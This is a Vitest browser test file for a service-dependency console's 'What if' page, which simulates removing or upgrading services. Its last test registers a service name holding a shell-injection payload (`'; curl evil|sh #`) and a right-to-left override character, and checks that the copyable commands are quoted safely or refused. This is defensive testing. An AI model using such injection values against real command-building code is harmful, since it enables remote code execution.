import { describe, expect } from 'vitest'
import { itInBrowser, withConsole } from './browser/with-console.ts'

describe('console: the page What if', () => {
  itInBrowser('says who loses something if a service is removed, with a link and the commands', () =>
    withConsole(async ({ page, open, url, picture }) => {
      await open('what-if')
      await page.getByRole('combobox', { name: 'Which service is removed' }).fill('flagd')
      await page.keyboard.press('Enter')
      await page.getByRole('heading', { name: 'Not safe: 13 services would lose what they need.' }).waitFor()
      await page.locator('[data-drawn="22"]').waitFor()
      expect(await page.locator('[data-node="service:flagd"]').getAttribute('data-sign')).toBe('lost')
      expect(await page.locator('.node[data-sign="broken"]').count()).toBe(13)
      expect(await page.locator('.node[data-sign="affected"]').count()).toBe(8)
      const commands = await page.locator('.copy-text').allTextContents()
      expect(commands).toEqual([
        `curl ${url}/knowledge-graph/simulate -H 'Content-Type: application/json' -d '{"remove":["flagd"]}'`,
        `npx coordinator graph what-if --remove flagd --url ${url}`,
        `${url}/console/what-if?remove=service:flagd`,
      ])
      await picture('what-if-remove')
      await page.getByRole('button', { name: 'Take flagd out of the change' }).click()
      await page.getByText('Choose a change.').waitFor()
    }),
  )

  itInBrowser('says which ranges another version would violate', () =>
    withConsole(async ({ server, page, open, checkAccessible, picture }) => {
      const dependencies = [{ serviceName: 'cart', version: '^3' }]
      await server.ask('/register', { json: { ...gifts, dependencies } })
      await open('what-if')
      await page.getByRole('combobox', { name: 'Which service gets another version' }).fill('cart')
      await page.getByRole('option', { name: /^cart / }).click()
      await page.getByRole('textbox', { name: 'New version of cart' }).fill('4.0.0')
      await page.keyboard.press('Enter')
      await page.getByRole('heading', { name: 'Not safe: 1 range of versions would be violated.' }).waitFor()
      await page.getByText('gift-cards wants cart ^3; there would be 4.0.0').waitFor()
      await checkAccessible()
      await picture('what-if-version')
    }),
  )

  itInBrowser('says that nothing breaks, and who needs the service', () =>
    withConsole(async ({ page, open }) => {
      await open('what-if?version=service:cart%3D4.0.0')
      await page.getByRole('heading', { name: 'Nothing would break.' }).waitFor()
      await page.getByText('checkout and frontend need the changed services directly.').waitFor()
    }),
  )

  itInBrowser('tries a pasted registration: new cycles, and what is not registered', () =>
    withConsole(async ({ page, open }) => {
      await open('what-if')
      const field = page.getByRole('textbox', { name: 'A registration, or a list of them, as JSON' })
      await field.fill('{"serviceName": ')
      await page.getByRole('button', { name: 'Try it' }).click()
      await page.getByRole('alert').filter({ hasText: 'This is not JSON' }).waitFor()
      await field.fill(
        JSON.stringify({
          serviceName: 'valkey-cart',
          version: '9.0.4',
          endpoint: 'http://v:1',
          dependencies: ['cart', 'nobody'],
        }),
      )
      await page.getByRole('button', { name: 'Try it' }).click()
      await page.getByText('valkey-cart → cart → valkey-cart').waitFor()
      await page.getByText('valkey-cart needs nobody').waitFor()
      await page.locator('[data-node="service:nobody"].unresolved').waitFor()
      await page.getByText('The command takes no registrations: use curl.').waitFor()
    }),
  )

  itInBrowser('offers no command that a name could turn into another one', () =>
    withConsole(
      async ({ server, page, open }) => {
        const evil = `'; curl evil|sh #`
        for (const serviceName of [evil, 'turned\u202e'])
          await server.ask('/register', { json: { ...gifts, serviceName } })
        await open(`what-if?remove=${encodeURIComponent(evil)}`)
        await page.getByRole('heading', { name: 'Nothing would break.' }).waitFor()
        const [, command] = await page.locator('.copy-text').allTextContents()
        expect(command).toContain(`--remove ''\\''; curl evil|sh #' --url`)
        await open(`what-if?remove=${encodeURIComponent('turned\u202e')}`)
        await page.getByRole('heading', { name: 'Nothing would break.' }).waitFor()
        expect(await page.locator('.copy-refused').count()).toBe(2)
      },
      { records: 'none' },
    ),
  )
})

const gifts = { serviceName: 'gift-cards', version: '1.0.0', endpoint: 'http://gift-cards:8080' }
